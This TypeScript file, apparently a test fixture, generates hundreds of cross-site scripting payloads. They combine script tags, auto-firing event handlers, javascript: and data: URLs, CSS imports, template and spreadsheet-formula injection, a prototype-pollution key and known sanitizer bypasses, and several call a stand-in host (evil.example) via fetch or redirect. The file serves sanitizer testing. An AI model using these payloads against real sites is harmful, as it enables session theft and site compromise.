/** A text that would run a script wherever it is taken for markup, an address, a style or a template. */
export interface ScriptPayload {
  readonly number: number
  readonly text: string
}

/** Where a payload sends what it could steal; nobody answers there, and asking is enough to fail a test. */
const EVIL = 'https://evil.example'

/** What a payload does once it runs; a test looks for the traces of each. */
const ACTS: readonly ((number: number) => string)[] = [
  (number) => `(window.__ran=window.__ran||[]).push(${number})`,
  (number) => `alert(${number})`,
  (number) => `fetch('${EVIL}/${number}')`,
  (number) => `top.location='${EVIL}/${number}'`,
]

/** How markup, addresses, styles and templates come to run something. */
const WAYS: readonly ((act: string, evil: string) => string)[] = [
  // Elements that are scripts or load one.
  (act) => `<script>${act}</script>`,
  (act) => `<ScRiPt type="module">${act}</sCrIpT >`,
  (act) => `<script/x>${act}</script\n>`,
  (act) => `<script src="data:text/javascript,${encodeURIComponent(act)}"></script>`,
  (_, evil) => `<script src="${evil}/x.js"></script>`,
  (act) => `<svg><script>${entities(act)}</script></svg>`,
  (act) => `<svg><script href="data:text/javascript,${encodeURIComponent(act)}"/></svg>`,
  (act) => `<math><annotation-xml encoding="text/html"><script>${act}</script></annotation-xml>`,
  (act) => `<template><script>${act}</script></template><noscript><img onerror=${act}></noscript>`,
  (_, evil) => `<link rel=stylesheet href=${evil}/x.css><link rel=prefetch href=${evil}/p>`,
  (_, evil) => `<meta http-equiv=refresh content="0;url=${evil}">`,
  (_, evil) => `<base href="${evil}/">`,
  // Handlers of events that come by themselves.
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<IMG SRC=x oNeRrOr=${entities(act)}>`,
  (act) => `<img/src=x/onerror=${entities(act)}>`,
  (act) => `<img src="data:,"\tonerror\n=\r"${act}">`,
  (act) => `<image src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg/onload=${entities(act)}//`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<svg><set attributeName=onmouseover to="${act}">`,
  (act) => `<svg><foreignObject><iframe onload="${act}"></iframe></foreignObject></svg>`,
  (act) => `<body onload="${act}" onpageshow="${act}">`,
  (act) => `<iframe onload="${act}"></iframe>`,
  (act) => `<iframe srcdoc="${entities(`<script>parent.eval('${act}')</script>`)}"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object><embed src="javascript:${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act, evil) => `<video src=x onerror="${act}" poster="${evil}/p.png"></video>`,
  (act) => `<audio src=x onerror="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<textarea autofocus onfocus="${act}">`,
  (act) => `<select autofocus onfocus="${act}"><option>`,
  (act) => `<div contenteditable autofocus onfocus="${act}">x</div>`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<marquee onstart="${act}">x</marquee>`,
  (act) =>
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${act}">x</b>`,
  (act) => `<xss onpointerover="${act}" style="position:fixed;inset:0">x</xss>`,
  // Addresses.
  (act) => `javascript:${act}`,
  (act) => `JaVaScRiPt:${act}//`,
  (act) => `java\tscript:${act}`,
  (act) => `\u0001javascript:${act}`,
  (act) => `javascript://%0a${act}`,
  (act) => `javascript:void(${act})//https://example.org/`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `data:text/html;base64,${Buffer.from(`<script>${act}</script>`).toString('base64')}`,
  (act) =>
    `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"/>`)}`,
  (act) => `<a href="javascript:${act}" style="position:fixed;inset:0">x</a>`,
  (act) => `<a href="jav&#x09;ascript&colon;${entities(act)}">x</a>`,
  (act) => `<form action="javascript:${act}"><button>x</button></form>`,
  (act) => `<button formaction="javascript:${act}">x</button>`,
  (act) => `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  (act) => `[x](javascript:${act})`,
  (act, evil) => `![x](${evil}/x.png "x\\" onerror=\\"${act}")`,
  // Styles that ask somebody.
  (_, evil) => `<style>@import '${evil}/x.css';</style>`,
  (_, evil) => `<b style="background:url(${evil}/x.png)">x</b>`,
  (_, evil) => `url(${evil}/x.png)`,
  (act, evil) => `<b style="width:expression(${act});behavior:url(${evil})">x</b>`,
  // Templates, formulas, and keys of objects.
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}<%= ${act} %>#{${act}}`,
  (_, evil) => `=HYPERLINK("${evil}";"x")`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
  (act) => `{"__proto__":{"innerHTML":"<img src=x onerror=${act}>"}}`,
  // What cleaners of markup were tricked with.
  (act) => `<noscript><p title="</noscript><img src=x onerror=${entities(act)}>">`,
  (act) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${entities(act)}&gt;">`,
]

/** What closes the place into which a text was put, so that the rest is markup. */
const BEFORE = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title></style></script>',
  '--><!---->',
  ']]></text></svg>',
  '\\u003c/',
]

/** Every way behind everything that closes a place: more than 500, each different from the others. */
export const SCRIPT_PAYLOADS: readonly ScriptPayload[] = BEFORE.flatMap((before, row) =>
  WAYS.map((way, column) => {
    const number = row * WAYS.length + column
    const act = ACTS[(row + column) % ACTS.length] ?? String
    return { number, text: `${before}${way(act(number), `${EVIL}/${number}`)} ${number}` }
  }),
)

/** Letters as numbers, which a parser of markup reads as the letters and a filter does not. */
function entities(text: string): string {
  return text.replaceAll(/[^\w]/g, (letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16)};`)
}
